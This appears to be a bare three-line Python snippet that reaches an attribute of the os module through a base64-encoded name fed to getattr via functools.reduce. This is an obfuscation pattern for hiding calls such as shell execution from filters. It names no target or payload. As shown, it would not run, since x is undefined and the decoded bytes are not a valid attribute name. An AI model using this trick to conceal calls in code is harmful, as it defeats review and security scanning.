import functools, os, base64

functools.reduce(getattr, [base64.b64decode(x)], os)
